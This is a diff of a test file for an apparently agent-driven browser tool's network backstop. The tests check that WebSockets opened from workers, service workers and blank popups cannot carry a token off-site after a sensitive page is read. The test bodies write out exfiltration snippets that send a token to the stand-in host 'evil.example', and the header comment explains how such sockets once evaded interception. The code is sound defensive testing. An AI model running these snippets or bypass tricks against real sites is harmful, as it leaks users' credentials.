@@ -1,11 +1,12 @@
-// A documented residual of the network backstop (docs/security.md, "What it does not guarantee"), kept as todo
-// tests that pass once it is closed: Playwright's WebSocket route replaces WebSocket in each page's JavaScript, and
-// Chromium pauses no WebSocket handshake (CDP Fetch never sees one; Network.setBlockedURLs does not stop one either,
-// Chromium 156). So after a sensitive read, a script the human approved (its held requests all rejected) can still
-// open a WebSocket to another site from a dedicated or service worker, or from a blank popup it reaches into before
-// that popup's first document exists. Found by a review of issue 13's changes; present before them. Tried and
-// dropped: holding each worker of the tab on a CDP session of tabward's own to replace its WebSocket before it runs
-// (Chromium lets the worker go as soon as Playwright's own session resumes it, so the replacement raced its script).
+// WebSocket handshakes the page route cannot see: Playwright's WebSocket route replaces WebSocket in each page's
+// JavaScript, and Chromium pauses no WebSocket handshake (CDP Fetch never sees one; Network.setBlockedURLs does not
+// stop one either, Chromium 156). After a sensitive read, a script the human approved (its held requests all
+// rejected) tries to carry a token off-site through a socket of a dedicated or service worker, or of a blank popup
+// it reaches into before that popup's first document exists. In the browsers tabward starts every WebSocket goes
+// through the socket gate (browser/socketGate.ts), judged as a request with no page. Found by a review of issue
+// 13's changes; present before them. Tried and dropped on the way: holding each worker on a CDP session of
+// tabward's own to replace its WebSocket before it runs (Chromium lets a worker go once Playwright's session
+// resumes it, so the replacement raced the worker's script).
 
 import assert from 'node:assert/strict';
 import { createServer } from 'node:https';
@@ -69,29 +70,44 @@ async function exfiltrateWith(opener: string): Promise<string[]> {
 
 const socket = () => `wss://evil.example:${evilPort}/ws?d=${token}`;
 
-test('a dedicated worker’s WebSocket to another site after a sensitive read is stopped', {
-  todo: 'residual: no interception tabward has sees a worker’s WebSocket handshake',
-}, async () => {
+/** Runs `opener` as a script in a page of the site and gives the handshakes that reached the socket server. */
+async function handshakesFrom(opener: string): Promise<string[]> {
+  const before = handshakes.length;
+  const body = `() => new Promise((done) => { try { ${opener} } catch {} setTimeout(() => done(1), 1500) })`;
+  await mcp.call('evaluate_script', { function: body });
+  return handshakes.slice(before);
+}
+
+// First in the file: nothing sensitive has been read yet.
+test('before any sensitive read, a worker’s WebSocket reaches its server through the gate', async () => {
+  await mcp.call('navigate_page', { url: github.url('github.com', '/acme') });
+  const worker = `new Worker(URL.createObjectURL(new Blob(["new WebSocket('wss://elsewhere.example:${evilPort}/fine')"])))`;
+  assert.deepEqual(await handshakesFrom(worker), ['/fine']);
+});
+
+test('after a sensitive read, a worker’s WebSocket to the site that was read still goes through', async () => {
+  await mcp.call('navigate_page', { url: github.url('github.com', '/settings/tokens') });
+  await mcp.call('take_snapshot');
+  await mcp.call('navigate_page', { url: github.url('github.com', '/acme') });
+  const worker = `new Worker(URL.createObjectURL(new Blob(["new WebSocket('wss://github.com:${evilPort}/same-site')"])))`;
+  assert.deepEqual(await handshakesFrom(worker), ['/same-site']);
+});
+
+test('a dedicated worker’s WebSocket to another site after a sensitive read is stopped', async () => {
   const worker = `new Worker(URL.createObjectURL(new Blob(["new WebSocket('${socket()}')"])))`;
   assert.deepEqual(await exfiltrateWith(worker), []);
 });
 
-test('a WebSocket opened through a blank popup’s window after a sensitive read is stopped', {
-  todo: 'residual: the popup’s initial empty document has no WebSocket route yet',
-}, async () => {
+test('a WebSocket opened through a blank popup’s window after a sensitive read is stopped', async () => {
   assert.deepEqual(await exfiltrateWith(`new (window.open('').WebSocket)('${socket()}')`), []);
 });
 
-test('a WebSocket a script writes into a blank popup after a sensitive read is stopped', {
-  todo: 'residual: the popup’s initial empty document has no WebSocket route yet',
-}, async () => {
+test('a WebSocket a script writes into a blank popup after a sensitive read is stopped', async () => {
   const write = `window.open('').document.write("<script>new WebSocket('${socket()}')<\\/script>")`;
   assert.deepEqual(await exfiltrateWith(write), []);
 });
 
-test('a service worker’s WebSocket to another site after a sensitive read is stopped', {
-  todo: 'residual: a service worker is no target of the tab, and is not held before it runs',
-}, async () => {
+test('a service worker’s WebSocket to another site after a sensitive read is stopped', async () => {
   const register = `navigator.serviceWorker.register('/sw.js?to=' + encodeURIComponent('${socket()}'))`;
   assert.deepEqual(await exfiltrateWith(register), []);
 });
